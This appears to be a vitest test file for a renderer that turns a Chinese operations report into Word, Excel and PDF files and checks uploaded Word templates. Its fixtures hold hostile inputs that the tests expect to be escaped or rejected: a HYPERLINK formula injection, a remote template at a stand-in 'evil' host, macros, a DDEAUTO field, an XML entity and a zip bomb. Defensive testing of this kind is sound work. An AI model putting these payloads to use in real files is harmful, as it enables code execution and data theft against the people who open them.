import { Document, Packer, Paragraph, TextRun } from "docx";
import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
import { describe, expect, test } from "vitest";
import type { ReportDocument } from "../domain/report/document.ts";
import { renderDocx } from "./docx.ts";
import { debianFonts, FontsMissing } from "./fonts.ts";
import { renderPdf } from "./pdf.ts";
import { columnWidths } from "./widths.ts";
import { checkWordForm, fillWordForm } from "./word-form.ts";
import { renderXlsx } from "./xlsx.ts";

const at = Date.parse("2026-10-02T08:00:00+08:00");
const formula = '=HYPERLINK("http://evil","看")';
const report: ReportDocument = {
  title: "应用系统运行月汇总报告",
  number: "CN-YB-202609-001",
  cover: [{ label: "项目名称", value: "长宁区 <自助> & 终端" }],
  blocks: [
    { kind: "heading", level: 1, text: "一、运行情况" },
    { kind: "paragraph", text: "本月运行正常。" },
    {
      kind: "table",
      title: "终端",
      columns: [
        { zh: "点位", kind: "text" },
        { zh: "可用率", kind: "percent" },
        { zh: "时间", kind: "instant" },
      ],
      rows: [
        [formula, 99.87, at],
        ["长宁图书馆\u0000\u0007", null, at],
      ],
      printed: 1,
    },
    { kind: "signatures", fields: [{ label: "编制人", value: "" }] },
  ],
  basis: "数据截止 2026-10-02 08:00",
  at,
};
const none = new Map();

function part(bytes: Uint8Array, name: string): string {
  const found = unzipSync(bytes)[name];
  if (found === undefined) throw new Error(`no ${name}`);
  return strFromU8(found);
}

describe("a Word file", () => {
  test("has the margins, lines and fonts of GB/T 9704, and the number at the outer side", async () => {
    const bytes = await renderDocx(report, none);
    const xml = part(bytes, "word/document.xml");
    expect(xml).toContain('w:top="2098" w:right="1474" w:bottom="1984" w:left="1587"');
    expect(xml).toContain('w:line="560" w:lineRule="exact"');
    expect(xml).toMatch(/w:eastAsia="方正小标宋简体".*w:eastAsia="黑体"/s);
    expect(part(bytes, "word/styles.xml")).toContain('w:eastAsia="仿宋_GB2312"');
    expect(part(bytes, "word/footer1.xml")).toContain('w:jc w:val="right"');
    expect(part(bytes, "word/footer2.xml")).toContain('w:jc w:val="left"');
  });

  test("repeats the heads of its tables, prints as many rows as it is told, and escapes what people typed", async () => {
    const xml = part(await renderDocx(report, none), "word/document.xml");
    expect(xml).toContain("<w:tblHeader/>");
    expect(xml).toContain("99.87%");
    expect(xml).not.toContain("长宁图书馆");
    expect(xml).toContain("&lt;自助&gt; &amp; 终端");
    expect(xml).not.toContain("\u2063");
  });
});

describe("a workbook", () => {
  test("has all rows, numbers as numbers, and nothing anybody typed as a formula", async () => {
    const bytes = await renderXlsx(report);
    const sheet = part(bytes, "xl/worksheets/sheet2.xml");
    expect(sheet).not.toContain("<f>");
    expect(sheet).toMatch(/<v>0\.9987\d*<\/v>/);
    expect(sheet).toContain('state="frozen"');
    const strings = part(bytes, "xl/sharedStrings.xml");
    expect(strings).toContain("=HYPERLINK(");
    expect(strings).toContain("无数据");
    expect(strings).toContain("长宁图书馆");
  });
});

describe("a PDF", () => {
  test("embeds what it uses of the fonts, and says when it was drawn up and not when it was made", async () => {
    const bytes = await renderPdf(report, none, debianFonts);
    const text = Buffer.from(bytes).toString("latin1");
    expect(text).toContain("NotoSerifCJKsc-Regular");
    expect(text).toContain("D:20261002000000Z");
  });

  test("is refused without the fonts, naming the package: never boxes", async () => {
    const failure = await renderPdf(report, none, "/nowhere").catch((error: unknown) => error);
    expect(failure).toBeInstanceOf(FontsMissing);
    expect(String(failure)).toContain("fonts-noto-cjk");
  });
});

test("made twice, each format is the same bytes", async () => {
  const make = () => Promise.all([renderDocx(report, none), renderXlsx(report), renderPdf(report, none, debianFonts)]);
  const [first, second] = [await make(), await make()];
  expect(second.map((bytes) => Buffer.from(bytes).toString("base64"))).toEqual(
    first.map((bytes) => Buffer.from(bytes).toString("base64")),
  );
});

test("a column that must not be broken keeps its room, words share the rest", () => {
  const columns = [
    { zh: "工单号", kind: "text" },
    { zh: "说明", kind: "text" },
    { zh: "时间", kind: "instant" },
  ] as const;
  const block = {
    kind: "table",
    title: "",
    columns,
    rows: [["WO-20260910-0001", "很长的说明".repeat(20), at]],
    printed: 1,
  } as const;
  const [number = 0, words = 0, time = 0] = columnWidths(block, 1000, 100);
  expect(number).toBeGreaterThanOrEqual(180);
  expect(time).toBeGreaterThanOrEqual(180);
  expect(number + words + time).toBe(1000);
});

describe("an owner's Word form", () => {
  const formOf = async (text: string) =>
    new Uint8Array(
      await Packer.toBuffer(
        new Document({ sections: [{ children: [new Paragraph({ children: [new TextRun(text)] })] }] }),
      ),
    );
  const withPart = (bytes: Uint8Array, name: string, body: string) =>
    zipSync({ ...unzipSync(bytes), [name]: strToU8(body) });

  test("tells its tags, and is filled with words and rows, the same bytes each time", async () => {
    const form = await formOf("{{contract}} {{#kiosks_kiosks}}{{name}};{{/kiosks_kiosks}}");
    expect(await checkWordForm(form)).toEqual({ ok: true, tags: ["contract", "kiosks_kiosks", "name"] });
    const data = { contract: "长宁 <1>", kiosks_kiosks: [{ name: "甲" }, { name: "乙" }] };
    const filled = await fillWordForm(form, data, at);
    expect(part(filled, "word/document.xml").replace(/<[^>]+>/g, "")).toContain("长宁 &lt;1&gt; 甲;乙;");
    expect(Buffer.from(await fillWordForm(form, data, at)).equals(Buffer.from(filled))).toBe(true);
  });

  test("with macros, outside references, entities or a field that starts something is refused", async () => {
    const form = await formOf("{{contract}}");
    const outside =
      '<Relationship Id="x" Type="http://a/attachedTemplate" Target="http://evil/t.dotm" TargetMode="External"/>';
    const bad = [
      withPart(form, "word/vbaProject.bin", "MZ"),
      withPart(form, "word/_rels/settings.xml.rels", outside),
      withPart(form, "word/extra.xml", '<!DOCTYPE x [<!ENTITY a "aaaa">]><x/>'),
      withPart(form, "word/extra.xml", "<w:instrText> DDEAUTO c:\\\\x </w:instrText>"),
      strToU8("no zip at all"),
    ];
    for (const bytes of bad) expect((await checkWordForm(bytes)).ok).toBe(false);
  });

  test("that unpacks to more than anybody writes is refused before it is unpacked", async () => {
    const bomb = zipSync({
      "word/document.xml": new Uint8Array(64 * 1024 * 1024),
      "[Content_Types].xml": strToU8("<x/>"),
    });
    expect(bomb.length).toBeLessThan(200_000);
    expect(await checkWordForm(bomb)).toMatchObject({ ok: false, detail: expect.stringContaining("too large") });
  });

  test("with a loop that nobody closes is refused", async () => {
    const form = await formOf("{{#kiosks_kiosks}}{{name}}");
    expect(await checkWordForm(form)).toMatchObject({ ok: false, detail: expect.stringContaining("kiosks_kiosks") });
  });
});
